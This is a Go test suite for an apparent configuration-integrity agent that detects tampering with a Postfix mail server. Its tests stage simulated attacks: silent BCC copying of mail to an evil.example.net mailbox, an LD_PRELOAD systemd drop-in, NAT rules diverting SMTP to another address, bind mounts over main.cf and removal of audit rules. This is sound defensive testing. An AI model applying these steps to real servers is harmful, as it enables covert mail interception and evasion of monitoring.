package agent_test

import (
	"database/sql"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
	_ "modernc.org/sqlite"

	"waxseal"
	"waxseal/internal/agent"
	"waxseal/internal/lab"
	"waxseal/internal/sensor/kaudit"
)

func TestChangeWhileAgentWasDown(t *testing.T) {
	h := postfixTree(t, nil)
	h.must("seal")
	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
	w := h.watch()
	f := w.find("the copy", isNew("mail-copy"))
	if f.Unobserved == nil || f.Unobserved.From.IsZero() || !f.Unobserved.Until.After(f.Unobserved.From) {
		t.Errorf("unobserved: %+v", f.Unobserved)
	}
	if f.Actor.Process.Grade != waxseal.Unknown {
		t.Errorf("an actor was guessed: %+v", f.Actor)
	}
	if f.Severity != waxseal.Critical || f.Checkpoint == "" {
		t.Errorf("severity %s, checkpoint %q", f.Severity, f.Checkpoint)
	}
	w.stop()
	h.watch().stop() // the same difference is not told twice
	out := h.must("findings", "list", "--format", "json")
	if n := strings.Count(out, `"rule": "mail-copy"`); n != 1 {
		t.Errorf("%d findings for one change\n%s", n, out)
	}
	h.must("ledger", "verify")
}

func TestContentThatWasThereForAMoment(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.must("seal")
	w := h.watch()
	sealed, err := os.ReadFile(h.path("/etc/postfix/main.cf"))
	if err != nil {
		t.Fatal(err)
	}
	h.write("/etc/postfix/main.cf", string(sealed)+"always_bcc = box@evil.example.net\n")
	time.Sleep(20 * time.Millisecond) // the kernel merges events that wait; that case is told as a gap
	h.write("/etc/postfix/main.cf", string(sealed))
	f := w.find("the copy that was there for a moment", isNew("mail-copy"))
	if f.Severity != waxseal.Critical || f.Unobserved != nil {
		t.Errorf("severity %s, unobserved %v", f.Severity, f.Unobserved)
	}
}

func TestWithoutSensors(t *testing.T) {
	h := postfixTree(t, nil)
	h.config("watch:\n  fanotify: false\n  audit: false\n  poll: 1s\n")
	h.must("seal")
	w := h.watch()
	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
	f := w.find("the copy, which inotify told of", isNew("mail-copy"))
	if f.Unobserved != nil || f.Actor.Process.Grade != waxseal.Unknown {
		t.Errorf("unobserved %v, actor %+v", f.Unobserved, f.Actor)
	}
	for _, sensor := range []string{"without fanotify", "without kaudit"} {
		if !strings.Contains(w.errs.String(), sensor) {
			t.Errorf("nothing said %q:\n%s", sensor, w.errs)
		}
	}
}

func TestWithoutAudit(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.config("watch:\n  audit: false\n")
	h.must("seal")
	w := h.watch()
	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
	f := w.find("the copy", isNew("mail-copy"))
	if f.Actor == nil || f.Actor.Process.PID != os.Getpid() || f.Actor.Process.Grade != waxseal.Inferred {
		t.Errorf("without audit an actor is inferred at best: %+v", f.Actor)
	}
}

func TestWithoutFanotify(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.config("watch:\n  fanotify: false\n")
	h.must("seal")
	w := h.watch()
	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
	f := w.find("the copy", isNew("mail-copy"))
	if f.Actor == nil || f.Actor.Process.PID != os.Getpid() || f.Actor.Process.Grade != waxseal.Proven {
		t.Errorf("audit alone proves the process: %+v", f.Actor)
	}
}

// TestKilled kills the agent at odd moments: the ledger verifies afterwards, what
// was told as recorded is there, and what the agent left in the kernel can be
// taken away.
func TestKilled(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.must("seal")
	recorded := map[waxseal.FindingID]bool{}
	for round := range 6 {
		w := h.watch()
		stop := make(chan struct{})
		go func() {
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				case <-time.After(3 * time.Millisecond):
					_ = os.WriteFile(h.path("/etc/postfix/main.cf"), fmt.Appendf(nil, "always_bcc = box%d-%d@evil.example.net\n", round, i), 0o644)
				}
			}
		}()
		time.Sleep(time.Duration(60+70*round) * time.Millisecond)
		w.end(syscall.SIGKILL)
		close(stop)
		for len(w.told) > 0 {
			if f := <-w.told; f.ID != "" && !f.Unrecorded {
				recorded[f.ID] = true
			}
		}
		h.must("ledger", "verify")
	}
	if len(recorded) == 0 {
		t.Error("nothing was recorded in six rounds")
	}
	out := h.must("findings", "list", "--format", "json")
	for id := range recorded {
		if !strings.Contains(out, fmt.Sprintf("%q", id)) {
			t.Errorf("finding %s was told and is not in the ledger", id)
		}
	}
	h.must("doctor", "--clean")
	if left := kaudit.Leftovers("waxseal"); len(left) > 0 {
		t.Errorf("audit rules are left: %q", left)
	}
}

// TestFullDisk: without room for the ledger, judging goes on, findings say
// unrecorded, and they are recorded when there is room again.
func TestFullDisk(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	small := filepath.Join(filepath.Dir(h.root), "small")
	if err := os.Mkdir(small, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mount("tmpfs", small, "tmpfs", 0, "size=6m,mode=700"); err != nil {
		t.Skipf("can't mount a small file system: %v", err)
	}
	t.Cleanup(func() { _ = syscall.Unmount(small, syscall.MNT_DETACH) })
	h.state = filepath.Join(small, "state")
	h.must("seal")
	w := h.watch()
	ballast := filepath.Join(small, "ballast")
	fill(t, ballast)
	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
	f := w.find("the copy, unrecorded", isNew("mail-copy"))
	if !f.Unrecorded || f.Severity != waxseal.Critical {
		t.Errorf("unrecorded %v, severity %s", f.Unrecorded, f.Severity)
	}
	if err := os.Remove(ballast); err != nil {
		t.Fatal(err)
	}
	wait(t, "the finding to be recorded", func() bool {
		out, code := h.run("findings", "list", "--format", "json")
		return code == 0 && strings.Contains(out, `"unrecorded": true`)
	})
	w.stop()
	h.must("ledger", "verify")
}

// fill takes all room of a file system.
func fill(t *testing.T, name string) {
	t.Helper()
	f, err := os.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for chunk := 1 << 20; chunk >= 512; {
		if _, err := f.Write(make([]byte, chunk)); err != nil {
			chunk /= 2
		}
	}
}

func wait(t testing.TB, what string, done func() bool) {
	t.Helper()
	for range 200 {
		if done() {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("waited in vain for %s", what)
}

// TestSecrets plants secrets of each kind, makes Waxseal look at all of them, and
// searches everything it wrote and printed.
func TestSecrets(t *testing.T) {
	const sasl, sqlPassword, inline, argument = "Sasl-Pa55word", "Sql-Pa55word", "Inl1ne-Pa55word", "Argument-Pa55"
	const dkim = "MIIEpAIBAAKCAQEAdkimkeydkimkey"
	key := "-----BEGIN RSA PRIVATE KEY-----\n" + dkim + "\n-----END RSA PRIVATE KEY-----\n"
	main := "myhostname = mail.example.test\nalias_maps = hash:/etc/aliases\n" +
		"relayhost = [smtp.provider.example.net]:587\nsmtp_sasl_password_maps = hash:/etc/postfix/sasl_passwd\n" +
		"lmtp_sasl_password_maps = inline:{ {lmtp.example.test = user:" + inline + "} }\n" +
		"smtpd_tls_key_file = /etc/postfix/key.pem\nvirtual_alias_maps = mysql:/etc/postfix/mysql.cf\n" +
		"ldapx_server_host = ldap.example.test\nldapx_bind_pw = " + sqlPassword + "\ncanonical_maps = ldap:ldapx\n"
	h := postfixTree(t, map[string]string{
		"/etc/postfix/main.cf":           main,
		"/etc/postfix/sasl_passwd":       "[smtp.provider.example.net]:587 user:" + sasl + "\n",
		"/etc/postfix/sasl_passwd.bak":   "[smtp.provider.example.net]:587 user:" + sasl + "\n",
		"/etc/postfix/mysql.cf":          "hosts = db.example.test\nuser = postfix\npassword = " + sqlPassword + "\nquery = SELECT 1\n",
		"/etc/postfix/key.pem":           key,
		"/etc/postfix/dkim/mail.private": key,
	})
	var printed strings.Builder
	keep := func(out string, _ int) { printed.WriteString(out) }
	keep(h.run("scan", "--format", "json"))
	keep(h.run("scan"))
	keep(h.run("seal"))
	w := h.watch()
	h.append("/etc/postfix/mysql.cf", "# edited\n")
	h.append("/etc/postfix/sasl_passwd", "[other.example.net] other:"+sasl+"\n")
	h.append("/etc/postfix/main.cf", "lmtp_sasl_password_maps = inline:{ {lmtp.example.test = user:"+inline+"2} }\nalways_bcc = box@evil.example.net\n")
	f := w.find("the copy", isNew("mail-copy"))
	fmt.Fprintf(&printed, "%+v %+v", f, f.Change)
	shell := exec.Command("sh", "-c", "echo 'recipient_bcc_maps = static:spy@evil.example.net' >> "+h.path("/etc/postfix/main.cf")+" ; : --password="+argument+" smtp_sasl_password_maps=static:u:"+argument)
	if out, err := shell.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	f = w.find("the second copy", func(f told) bool { return f.News == "" && f.ID > "" && strings.Contains(f.Title, "recipient_bcc") })
	fmt.Fprintf(&printed, "%+v %+v %+v", f, f.Change, f.Actor)
	w.stop()
	keep(h.run("findings", "show", string(f.ID)))
	keep(h.run("findings", "list", "--format", "json"))
	keep(h.run("check"))
	keep(h.run("check", "--format", "json"))
	empty := t.TempDir()
	keep(host{t: t, root: h.root, state: h.state}.run("diff", empty, h.root, "--format", "json"))
	keep(host{t: t, root: h.root, state: h.state}.run("diff", empty, h.root))
	printed.WriteString(w.errs.String())
	unpacked := unpack(t, filepath.Join(h.state, "waxseal.db"))
	for _, secret := range []string{sasl, sqlPassword, inline, argument, dkim} {
		if i := strings.Index(unpacked, secret); i >= 0 {
			t.Errorf("the database holds %s: …%s…", secret, unpacked[max(0, i-200):i+30])
		}
		if i := strings.Index(printed.String(), secret); i >= 0 {
			t.Errorf("%s was printed: …%s…", secret, printed.String()[max(0, i-200):i+30])
		}
		searchFiles(t, h.state, secret)
	}
	if !strings.Contains(printed.String(), "«secret ") || !strings.Contains(unpacked, "«secret ") || !strings.Contains(unpacked, "# edited") {
		t.Error("no masked secret was printed or stored: the test looked at nothing")
	}
}

// unpack returns every value of every table, decompressed where it is zstd.
func unpack(t *testing.T, file string) string {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+file+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	unzip, err := zstd.NewReader(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer unzip.Close()
	var all strings.Builder
	for _, table := range column(t, db, "SELECT name FROM sqlite_master WHERE type = 'table'") {
		for _, col := range column(t, db, "SELECT name FROM pragma_table_info('"+table+"')") {
			for _, value := range column(t, db, "SELECT CAST(\""+col+"\" AS BLOB) FROM \""+table+"\"") {
				if plain, err := unzip.DecodeAll([]byte(value), nil); err == nil {
					value = string(plain)
				}
				all.WriteString(value + "\n")
			}
		}
	}
	return all.String()
}

func column(t *testing.T, db *sql.DB, query string) (list []string) {
	t.Helper()
	rows, err := db.Query(query)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var value []byte
		if err := rows.Scan(&value); err != nil {
			t.Fatal(err)
		}
		list = append(list, string(value))
	}
	return list
}

// searchFiles looks for a secret in the files of a state directory as they are.
func searchFiles(t *testing.T, dir, secret string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(p)
		if strings.Contains(string(content), secret) {
			t.Errorf("%s holds the secret %s", p, secret)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// TestReaderGone: whoever reads the findings may go away; the watch goes on.
func TestReaderGone(t *testing.T) {
	h := postfixTree(t, nil)
	h.config("watch: {fanotify: false, audit: false, poll: 1s}\n")
	h.must("seal")
	bin, err := program()
	if err != nil {
		t.Fatal(err)
	}
	read, write, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, h.args("watch")...)
	cmd.Stdout = write
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _, _ = cmd.Process.Wait() })
	read.Close()
	write.Close()
	for i := range 2 {
		wait(t, "the agent to be there", func() bool { _, err := os.Stat(filepath.Join(h.state, "control.sock")); return err == nil })
		h.append("/etc/postfix/main.cf", fmt.Sprintf("always_bcc = box%d@evil.example.net\n", i))
		wait(t, "the finding", func() bool {
			out, _ := h.run("findings", "list", "--format", "json")
			return strings.Contains(out, fmt.Sprintf("box%d@", i))
		})
	}
}

// TestReaderStalls: a reader that never reads, as a terminal stopped with Ctrl-S,
// does not stop the agent, nor its end.
func TestReaderStalls(t *testing.T) {
	h := postfixTree(t, nil)
	h.config("watch: {fanotify: false, audit: false, poll: 1s}\n")
	main := "myhostname = mail.example.test\nalias_maps = hash:/etc/aliases\n"
	h.write("/etc/postfix/main.cf", main)
	h.must("seal")
	bin, err := program()
	if err != nil {
		t.Fatal(err)
	}
	read, write, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer read.Close()
	cmd := exec.Command(bin, h.args("watch", "--format", "json")...)
	cmd.Stdout = write
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _, _ = cmd.Process.Wait() })
	write.Close()
	wait(t, "the agent to be there", func() bool { _, err := os.Stat(filepath.Join(h.state, "control.sock")); return err == nil })
	var many strings.Builder // more than the pipe holds, in one finding
	for i := range 2000 {
		fmt.Fprintf(&many, "name%d: box%d@evil.example.net\n", i, i)
	}
	h.append("/etc/aliases", many.String())
	found := func(what string) func() bool {
		return func() bool {
			out, _ := h.run("findings", "list", "--format", "json")
			return strings.Contains(out, what)
		}
	}
	wait(t, "the large finding", found("box1999@"))
	h.append("/etc/postfix/main.cf", "always_bcc = after@evil.example.net\n")
	wait(t, "the finding behind it", found("after@evil"))
	start := time.Now()
	_ = cmd.Process.Signal(syscall.SIGTERM)
	if err := cmd.Wait(); err != nil || time.Since(start) > time.Minute {
		t.Errorf("the end took %v: %v", time.Since(start), err)
	}
}

// TestDirectoryMovedAway: the whole configuration is renamed, and another put in
// its place.
func TestDirectoryMovedAway(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.must("seal")
	w := h.watch()
	script := "cp -a " + h.path("/etc/postfix") + " " + h.path("/etc/new") + " && echo 'always_bcc = box@evil.example.net' >> " + h.path("/etc/new/main.cf") +
		" && mv " + h.path("/etc/postfix") + " " + h.path("/etc/old") + " && mv " + h.path("/etc/new") + " " + h.path("/etc/postfix")
	if out, err := exec.Command("sh", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	f := w.find("the copy", isNew("mail-copy"))
	if f.Severity != waxseal.Critical || f.Actor == nil || !strings.HasSuffix(f.Actor.Process.Exe, "/mv") {
		t.Errorf("severity %s, actor %+v", f.Severity, f.Actor)
	}
	h.append("/etc/postfix/main.cf", "sender_bcc_maps = static:box2@evil.example.net\n")
	w.find("a change in the new directory", func(f told) bool { return strings.Contains(f.Title, "sender_bcc_maps") && f.Unobserved == nil })
}

// TestHardLinkAlias writes through another name of main.cf, outside the
// configuration directory.
func TestHardLinkAlias(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.must("seal")
	w := h.watch()
	h.write("/var/tmp/readme", "")
	if err := os.Remove(h.path("/var/tmp/readme")); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(h.path("/etc/postfix/main.cf"), h.path("/var/tmp/readme")); err != nil {
		t.Fatal(err)
	}
	h.append("/var/tmp/readme", "always_bcc = box@evil.example.net\n")
	f := w.find("the copy", isNew("mail-copy"))
	if f.Unobserved != nil || f.Actor.Process.PID != os.Getpid() {
		t.Errorf("unobserved %v, actor %+v", f.Unobserved, f.Actor)
	}
}

// TestDropInAppears: a file where there was none, in a directory that no file of
// the state lies in, changes what the daemons load.
func TestDropInAppears(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	dir := h.path("/etc/systemd/system/postfix.service.d")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	h.must("seal")
	w := h.watch()
	if err := os.WriteFile(filepath.Join(dir, "x.conf"), []byte("[Service]\nEnvironment=LD_PRELOAD=/usr/lib/libm2.so\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if f := w.find("the library", isNew("mail-environment")); f.Severity != waxseal.Critical || f.Unobserved != nil {
		t.Errorf("severity %s, unobserved %v", f.Severity, f.Unobserved)
	}
}

// TestMountOver: what is mounted over the configuration is told within a second, and
// by whom, as audit proves it.
func TestMountOver(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.must("seal")
	w := h.watch()
	defer w.stop()
	other := filepath.Join(t.TempDir(), "main.cf")
	if err := os.WriteFile(other, []byte("myhostname = mail.example.test\nalways_bcc = box@evil.example.net\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	at := h.path("/etc/postfix/main.cf")
	before := time.Now()
	if err := syscall.Mount(other, at, "", syscall.MS_BIND, ""); err != nil {
		t.Skipf("no right to mount: %v", err)
	}
	t.Cleanup(func() { _ = syscall.Unmount(at, syscall.MNT_DETACH) })
	f := w.find("the mount", func(f told) bool {
		return strings.Contains(strings.Join(f.Reasons, "\n"), "another file system is mounted over /etc/postfix/main.cf")
	})
	if f.Severity < waxseal.High || f.Actor.Process.Grade != waxseal.Proven || f.Actor.Process.PID != os.Getpid() {
		t.Errorf("%s by %+v", f.Severity, f.Actor)
	}
	if f.Unobserved != nil || f.Seen.Sub(before).Abs() > 3*time.Second {
		t.Errorf("seen %s, unobserved %+v, mounted at %s", f.Seen, f.Unobserved, before)
	}
	if out, code := h.run("check"); code != 1 || !strings.Contains(out, "mounted over /etc/postfix/main.cf") {
		t.Errorf("check: exit code %d\n%s", code, out)
	}
	if err := syscall.Unmount(at, syscall.MNT_DETACH); err != nil {
		t.Fatal(err)
	}
	w.find("the end of the mount", func(f told) bool { return f.Change != nil && len(f.Change.Hooks.Removed) > 0 })
}

// TestAuditIsSilenced: rules that somebody takes away are told within moments, with who
// it was, and put back.
func TestAuditIsSilenced(t *testing.T) {
	needRoot(t)
	if p := kaudit.Probe(); !p.Usable {
		t.Skip("audit can't be used here: " + strings.Join(p.Problems, "; "))
	}
	h := postfixTree(t, nil)
	w := h.watch()
	defer w.stop()
	start := time.Now()
	n, err := kaudit.RemoveLeftovers(agent.AuditKey, false)
	if err != nil || n == 0 {
		t.Fatalf("%d rules removed, %v", n, err)
	}
	f := w.find("audit that was silenced", isNew("watch-silenced"))
	if f.Actor == nil || f.Actor.Process.PID != os.Getpid() || f.Actor.Process.Grade != waxseal.Proven {
		t.Errorf("actor %+v", f.Actor)
	}
	t.Logf("told after %v: %s", f.at.Sub(start), f.Explain)
	wait(t, "the rules to be back", func() bool { return len(kaudit.Leftovers(agent.AuditKey)) >= n })
	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
	f = w.find("the copy", isNew("mail-copy"))
	if f.Actor.Process.Grade != waxseal.Proven {
		t.Errorf("after the rules are back: %+v", f.Actor.Process)
	}
}

// TestTrafficIsDiverted: a redirect of SMTP is told, in a network of its own, and once.
func TestTrafficIsDiverted(t *testing.T) {
	needRoot(t)
	tools := lab.Root(t, lab.Tools)
	h := postfixTree(t, nil)
	h.config("watch: {fanotify: false, audit: false}\n")
	bin, err := program()
	if err != nil {
		t.Fatal(err)
	}
	const script = `trap 'kill $pid; wait $pid' EXIT
divert() { chroot "$tools" /usr/sbin/iptables-nft -t nat -A OUTPUT -p tcp --dport 25 -j DNAT --to-destination 203.0.113.9:2525; }
[ $before = false ] || divert
"$@" >"$out" & pid=$!
n=0; until [ -S "$state/control.sock" ] || [ $n -gt 100 ]; do n=$((n+1)); sleep 0.1; done; sleep 0.7
[ $before = true ] || divert
n=0; until grep -q mail-traffic "$out" || [ $n -gt 20 ]; do n=$((n+1)); sleep 0.1; done`
	out := filepath.Join(t.TempDir(), "out")
	for _, before := range []bool{false, true} { // the second run finds what the first has told
		cmd := exec.Command("/bin/sh", append([]string{"-c", script, "sh", bin}, h.args("watch", "--format", "json")...)...)
		cmd.Env = append(os.Environ(), "out="+out, "tools="+tools, "state="+h.state, fmt.Sprintf("before=%v", before))
		cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNET}
		if said, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, said)
		}
		text, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Contains(string(text), "traffic for port 25 is sent to another address (203.0.113.9 port 2525)"); got == before {
			t.Errorf("told: %v, and was there before: %v\n%s", got, before, text)
		}
	}
}

// TestDiverterIsNamed: who makes a rule that leads mail elsewhere is proven by the kernel's
// record of it. The rule is for an address that is nobody's (RFC 5737).
func TestDiverterIsNamed(t *testing.T) {
	needRoot(t)
	if p := kaudit.Probe(); !p.Usable {
		t.Skip("audit can't be used here: " + strings.Join(p.Problems, "; "))
	}
	tools := lab.Root(t, lab.Tools)
	h := postfixTree(t, nil)
	w := h.watch()
	defer w.stop()
	nft := func(script string) *exec.Cmd {
		cmd := exec.Command("/usr/sbin/nft", strings.Fields(script)...)
		cmd.Env, cmd.SysProcAttr, cmd.Dir = []string{"PATH=/usr/sbin"}, &syscall.SysProcAttr{Chroot: tools}, "/"
		return cmd
	}
	t.Cleanup(func() { _ = nft("delete table ip waxseal_test").Run() })
	for _, script := range []string{"add table ip waxseal_test", "add chain ip waxseal_test out { type nat hook output priority 0 ; }"} {
		if out, err := nft(script).CombinedOutput(); err != nil {
			t.Skipf("no right to change the packet filter: %v: %s", err, out)
		}
	}
	last := nft("add rule ip waxseal_test out ip daddr 192.0.2.1 tcp dport 25 dnat to 203.0.113.9:2525")
	if out, err := last.CombinedOutput(); err != nil {
		t.Skipf("%v: %s", err, out)
	}
	f := w.find("the redirect", isNew("mail-traffic"))
	if p := f.Actor.Process; p.Grade == waxseal.Unknown || !strings.HasSuffix(p.Exe, "/usr/sbin/nft") {
		t.Errorf("process %+v", p)
	}
	for _, said := range f.NotEstablished {
		if f.Actor.Process.Grade == waxseal.Proven && strings.HasPrefix(said, "who changed it") {
			t.Errorf("not established: %q", said)
		}
	}
}
